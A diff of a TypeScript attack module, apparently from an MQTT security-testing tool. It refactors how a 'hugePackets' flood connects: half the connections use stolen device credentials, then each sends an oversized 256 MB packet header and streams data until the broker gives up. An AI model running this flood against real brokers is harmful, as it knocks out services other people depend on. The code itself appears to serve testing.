@@ -1,5 +1,5 @@
 import type { Attack } from './attack.ts'
-import { connectPacket, RawLine } from './raw-line.ts'
+import { RawLine } from './raw-line.ts'
 
 /** 256 MB announced, as much as MQTT can say; sent until the far side has had enough. */
 const HEAD = Uint8Array.of(0x32, 0xff, 0xff, 0xff, 0x7f)
@@ -18,11 +18,7 @@ export const hugePackets: Attack = {
         while (!signal.aborted) {
           tried++
           const isEnrolled = place % 2 === 0
-          const line = RawLine.tls(target, signal, isEnrolled ? target.stolen.identity : null)
-          if (isEnrolled) {
-            line.say(connectPacket(target.stolen.device))
-            await line.hear()
-          }
+          const line = isEnrolled ? await RawLine.entered(target, signal) : RawLine.tls(target, signal, null)
           line.socket.write(HEAD)
           const pump = (): void => {
             while (line.socket.writable && line.socket.write(PIECE));
